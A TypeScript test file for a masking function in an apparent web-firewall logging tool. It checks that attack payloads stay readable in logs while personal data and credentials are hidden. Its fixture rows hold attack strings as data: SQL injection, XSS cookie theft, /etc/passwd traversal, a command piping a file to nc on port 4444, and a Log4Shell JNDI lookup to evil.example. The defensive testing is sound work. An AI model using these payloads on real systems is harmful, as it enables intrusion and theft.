import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { RuleMatch } from '@secbeat/contracts/event.ts';
import { escapeControls, maskMatches, maskValue, showValue } from './mask.ts';

const rows: readonly (readonly [name: string, value: string, masked: string])[] = [
  // The shape of attacks stays readable.
  ['ARGS:q', "1' OR '1'='1' -- ", "9' OR '9'='9' -- "],
  ['ARGS:q', "' UNION SELECT login, secret FROM members--", "' UNION SELECT xxxxx, xxxxxx FROM xxxxxxx--"],
  ['ARGS:q', 'sElEcT/**/1', 'sElEcT/**/9'],
  ['ARGS:q', '<script>alert(document.cookie)</script>', '<script>alert(document.cookie)</script>'],
  ['ARGS:q', '<img src=x onerror=steal("me")>', '<img src=x onerror=xxxxx("xx")>'],
  ['ARGS:file', '../../../etc/passwd', '../../../etc/passwd'],
  ['ARGS:cmd', ';cat /home/alice/notes|nc 10.0.0.1 4444', ';cat /xxxx/xxxxx/xxxxx|nc 99.9.9.9 9999'],
  ['ARGS:q', '\x24{jndi:ldap://evil.example/a}', '\x24{jndi:ldap://xxxx.xxxxxxx/a}'],
  // The content of ordinary values does not.
  ['ARGS:name', "Sinéad O'Connor", "xxxxxx x'xxxxxx"],
  ['ARGS:note', 'Meet me at 10:30', 'xxxx xx xx 99:99'],
  ['ARGS:number', '4111 1111 1111 1111', '9999 9999 9999 9999'],
  ['ARGS:ref', 'a1b2c3', 'xxxxxx'],
  ['ARGS:t', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIi.c2ln', 'x{20}.xxxxxxxx.xxxx'],
  ['ARGS:n', '1234567890123456', '9999999999999999'],
  ['ARGS:n', '12345678901234567', '9{17}'],
  // Percent-encoding: punctuation stays, letters and digits do not.
  ['REQUEST_URI', '/a?q=%27%20or%201=1', '/a?x=%27%20or%209=9'],
  ['REQUEST_URI', '/s?t=%61%62%39', '/x?x=%xx%xx%xx'],
  ['REQUEST_URI', '/s?t=%C3%A9', '/x?x=%xx%xx'],
  // Controls are shown, never sent.
  ['REQUEST_HEADERS:X-A', 'v\r\nSet-Cookie: a=b', 'x\\x0d\\x0aSet-Cookie: a=b'],
  ['ARGS:q', '\x1b[31m\x00\x7f', '\\x1b[xxx\\x00\\x7f'],
  ['ARGS:q', '\x9b', '\\x9b'],
  // Credentials: no vocabulary, no lengths, no character classes.
  ['ARGS:password', "' OR 1=1--", "' x x=x--"],
  ['ARGS:password', 'Tr0ub4dor&3', 'x&x'],
  ['ARGS:user_pwd', 'select', 'x'],
  ['ARGS:json.login.pass', 'hunter2!', 'x!'],
  ['REQUEST_COOKIES:sid', 'union select', 'x x'],
  ['REQUEST_HEADERS:Authorization', 'Bearer abc.def', 'x x.x'],
  ['REQUEST_HEADERS:X-Api-Key', '00112233', 'x'],
  ['ARGS:cardNumber', '4111-1111', 'x-x'],
  ['ARGS:token', '%41%42%27', 'xx%27'],
  ['ARGS:empty', '', ''],
  // What the event shows anyway, and what rules computed.
  ['REQUEST_METHOD', 'TRACK', 'TRACK'],
  ['REQUEST_FILENAME', '/cart\xff\n', '/cart\\xff\\x0a'],
  ['REQUEST_HEADERS:User-Agent', 'sqlmap/1.7', 'sqlmap/1.7'],
  ['TX:inbound_anomaly_score', '15', '15'],
  ['TX:inbound_anomaly_score', '4111111111111111', '9999999999999999'],
  ['TX:1', '4111', '9999'],
  ['ARGS:score', '15', '99'],
];

for (const [name, value, masked] of rows) {
  test(`maskValue: ${name} = ${JSON.stringify(value)}`, () => {
    assert.equal(maskValue(name, value), masked);
  });
}

for (const [length, expectedLength, isCut] of [
  [255, 255, false],
  [256, 256, false],
  [257, 256, false],
] as const) {
  test(`maskValue: of ${length} punctuation characters ${expectedLength} are shown`, () => {
    const masked = maskValue('ARGS:q', "'".repeat(length));
    assert.equal(masked.length, expectedLength);
    assert.equal(masked.endsWith('...'), isCut);
  });
}

test('maskValue: what grows by escaping is cut at 256 characters and says so', () => {
  const masked = maskValue('ARGS:q', '\x00'.repeat(256));
  assert.equal(masked.length, 256);
  assert.ok(masked.endsWith('\\...') || masked.endsWith('...'));
});

test('maskValue: gives printable ASCII for every byte', () => {
  for (const name of ['ARGS:q', 'ARGS:password']) {
    for (let byte = 0; byte < 256; byte += 1) {
      const masked = maskValue(name, `a ${String.fromCharCode(byte)} b`);
      assert.match(masked, /^[\x20-\x7e]+$/, `byte ${byte}`);
    }
  }
});

test('maskValue: a letter or digit outside the vocabulary never comes through', () => {
  const secret = 'Qzv7kJw2-ymq_88';
  for (const name of ['ARGS:q', 'ARGS:token', 'REQUEST_URI', 'REQUEST_BODY']) {
    assert.equal(/[QvkJwym278]/.test(maskValue(name, secret)), false, name);
  }
});

test('showValue: text as it is but for controls, at most 256 characters', () => {
  assert.equal(showValue("secret' \x1b"), "secret' \\x1b");
  assert.equal(showValue('a'.repeat(257)).length, 256);
});

test('escapeControls: C0, DEL and C1 and nothing else', () => {
  assert.equal(escapeControls('a\n\x7f\x85\xa0ž'), 'a\\x0a\\x7f\\x85\xa0ž');
});

const match: RuleMatch = {
  ruleId: 7,
  message: 'Found hunter22 in the form',
  severity: 'ERROR',
  tags: ['t'],
  phase: 2,
  place: 'a.conf:1',
  variables: [{ name: 'ARGS:login\x1b', value: 'hunter22' }],
};

test('maskMatches: masks values, also where the message of a rule quotes them', () => {
  assert.deepEqual(maskMatches([match], false), [
    {
      ruleId: 7,
      message: 'Found xxxxxxxx in the form',
      severity: 'ERROR',
      tags: ['t'],
      phase: 2,
      place: 'a.conf:1',
      variables: [{ name: 'ARGS:login\\x1b', value: 'xxxxxxxx' }],
    },
  ]);
});

test('maskMatches: a quoted value with replacement patterns is masked literally', () => {
  const tricky = { ...match, message: "got $&$'", variables: [{ name: 'ARGS:q', value: "$&$'" }] };
  assert.equal(maskMatches([tricky], false)[0]!.message, "got $&$'");
});

test('maskMatches: shows values when the operator wants them', () => {
  const [shown] = maskMatches([match], true);
  assert.equal(shown!.variables[0]!.value, 'hunter22');
  assert.equal(shown!.message, 'Found hunter22 in the form');
});

test('maskMatches: cuts names at 128 characters', () => {
  const long = { ...match, variables: [{ name: `ARGS:${'n'.repeat(200)}`, value: '' }] };
  assert.equal(maskMatches([long], false)[0]!.variables[0]!.name.length, 128);
});
